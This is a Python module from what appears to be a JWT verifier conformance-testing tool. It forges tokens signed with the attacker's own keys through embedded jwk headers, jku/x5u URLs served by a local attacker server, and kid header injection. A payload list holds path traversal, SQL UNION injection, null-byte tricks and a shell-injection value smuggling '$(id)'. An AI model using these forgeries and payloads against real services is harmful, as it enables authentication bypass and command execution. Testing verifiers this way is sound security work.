"""Key-selecting header injection: jwk, jku, x5u and kid, with the attacker's own keys.

A verifier must pick its key from its own key set; one that believes the token about where its
key is (an embedded jwk, a jku/x5u URL, a kid used as a path or in a query) verifies a token the
attacker signed.
"""

from __future__ import annotations

import datetime as dt
import functools
import json
import warnings
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import jwt
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID

from conformance.attacker_server import AttackerServer
from conformance.attacks.forging import Forged, claims_of, hmac_sign, key_naming_header
from conformance.minting import b64url

# The HMAC key the oct-jwk and kid forgeries sign with (the attacker's choice; public on purpose).
ATTACKER_HMAC_KEY = "attacker-chosen-hmac-key-0123456789abcdef"
# Paths of the documents the attacker's server publishes for jku and x5u.
JKU_PATH, X5U_PATH = "/jwks.json", "/cert.pem"
JWK_KINDS = ("rsa", "ec", "oct")


@functools.cache
def attacker_rsa() -> rsa.RSAPrivateKey:
    """The attacker's own RSA key pair (one per process: generating keys is slow)."""
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


@functools.cache
def attacker_ec() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def private_pem(key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey) -> bytes:
    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                             serialization.NoEncryption())


def public_jwk(key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey, kid: str) -> dict[str, Any]:
    if isinstance(key, rsa.RSAPrivateKey):
        text = jwt.algorithms.RSAAlgorithm.to_jwk(key.public_key())
    else:
        text = jwt.algorithms.ECAlgorithm.to_jwk(key.public_key())
    jwk: dict[str, Any] = json.loads(text)
    jwk.update({"kid": kid, "use": "sig"})
    return jwk


@functools.cache
def attacker_certificate() -> bytes:
    """A self-signed certificate for the attacker's RSA key, PEM encoded. Built once per process:
    cryptography caches the datetime type on first use, and an in-process run may have made that
    use under freezegun (a FakeDatetime), which a later real datetime would then not match."""
    key = attacker_rsa()
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "authconform attacker")])
    start = dt.datetime(2000, 1, 1, tzinfo=dt.UTC)
    certificate = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(x509.random_serial_number()).not_valid_before(start)
        .not_valid_after(start + dt.timedelta(days=365 * 100)).sign(key, hashes.SHA256())
    )
    return certificate.public_bytes(serialization.Encoding.PEM)


def attacker_jwks(kid: str = "attacker-jku") -> dict[str, Any]:
    """The key set a jku URL must serve for ``remote_key`` tokens to verify."""
    return {"keys": [{**public_jwk(attacker_rsa(), kid), "alg": "RS256"}]}


def _signed(claims: dict[str, Any], algorithm: str, key: bytes, header: dict[str, Any]) -> str:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return jwt.encode(claims, key, algorithm=algorithm, headers=header)


def embedded_jwk(token: str, kind: str = "rsa", *, claims: dict[str, Any] | None = None) -> Forged:
    """The token signed with the attacker's key and that key's public half in a ``jwk`` header:
    ``rsa`` (RS256), ``ec`` (ES256) or ``oct`` (HS256 with the attacker's secret in ``k``)."""
    body = claims if claims is not None else claims_of(token)
    base = key_naming_header(token)
    if kind == "oct":
        kid = "attacker-oct"
        jwk = {"kty": "oct", "kid": kid, "k": b64url(ATTACKER_HMAC_KEY)}
        signed = hmac_sign({"alg": "HS256", "typ": "JWT", **base, "kid": kid, "jwk": jwk}, body,
                           ATTACKER_HMAC_KEY.encode())
    elif kind in ("rsa", "ec"):
        key = attacker_rsa() if kind == "rsa" else attacker_ec()
        kid = f"attacker-jwk-{kind}"
        signed = _signed(body, "RS256" if kind == "rsa" else "ES256", private_pem(key),
                         {**base, "kid": kid, "jwk": public_jwk(key, kid)})
    else:
        raise ValueError(f"unknown jwk kind {kind!r}; use one of {', '.join(JWK_KINDS)}")
    return Forged(signed, "jwk", "--kty", kind)


def remote_key(token: str, parameter: str, url: str, *, claims: dict[str, Any] | None = None) -> Forged:
    """The token signed RS256 with the attacker's key, the ``jku`` or ``x5u`` header pointing at
    ``url``, where the attacker publishes the key set (``attacker_jwks``) or the certificate."""
    if parameter not in ("jku", "x5u"):
        raise ValueError(f"{parameter!r} is not a key URL header; use jku or x5u")
    header = {**key_naming_header(token), "kid": f"attacker-{parameter}", parameter: url}
    signed = _signed(claims if claims is not None else claims_of(token), "RS256", private_pem(attacker_rsa()),
                     header)
    return Forged(signed, parameter, url)


@contextmanager
def attacker_documents(bind: str | None = None, public_url: str = "") -> Iterator[AttackerServer]:
    """A server publishing the attacker's key set and certificate, recording each fetch: on
    ``bind`` (loopback by default), named by ``public_url`` when the target reaches it so."""
    jwks = json.dumps(attacker_jwks()).encode()
    with AttackerServer({
        JKU_PATH: ("application/json", jwks),
        X5U_PATH: ("application/x-pem-file", attacker_certificate()),
    }, host=bind, public_url=public_url) as server:
        yield server


@dataclass(frozen=True)
class KidPayload:
    label: str
    kid: str
    key: bytes  # the HMAC key the injection would make the verifier use


_TRAVERSAL = "../../../../../../../../dev/null"
KID_PAYLOADS = (
    KidPayload("kid path traversal to /dev/null, empty HMAC key", _TRAVERSAL, b""),
    KidPayload("kid SQL injection selecting 'attacker-key'", "' UNION SELECT 'attacker-key' --", b"attacker-key"),
    KidPayload("kid shell injection", "key|echo attacker-key; #$(id)`id`", b"attacker-key"),
    KidPayload("unknown kid", "authconform-unknown-kid", b"attacker-key"),
    KidPayload("kid path traversal to a public file, keyed with its content",
               "../../../../../../../../proc/sys/kernel/ostype", b"Linux\n"),
    KidPayload("kid with a null byte before a file suffix, empty HMAC key", _TRAVERSAL + "\u0000.key", b""),
)


def kid_injection(token: str, kid: str, key: bytes, *, claims: dict[str, Any] | None = None) -> Forged:
    """The token as HS256 with ``kid`` in its header, signed with ``key``: the key the injected
    kid would make a careless verifier load (an empty file, a value the query returns)."""
    header = {**key_naming_header(token), "alg": "HS256", "typ": "JWT", "kid": kid}
    signed = hmac_sign(header, claims if claims is not None else claims_of(token), key)
    shown_key = key.decode("utf-8", "replace")
    if (kid + shown_key).isprintable():
        return Forged(signed, "kid", kid, "--key", shown_key)
    # A null byte cannot be a shell argument: the recipe spells both with backslash escapes.
    return Forged(signed, "kid", _escaped(kid), "--key", _escaped(shown_key), "--escapes")


def _escaped(text: str) -> str:
    return text.encode("unicode_escape").decode("ascii")


def unescaped(text: str) -> str:
    """What ``forge kid --escapes`` reads: backslash escapes (\\n, \\x00, \\u0000) decoded."""
    return text.encode("latin-1", "backslashreplace").decode("unicode_escape")
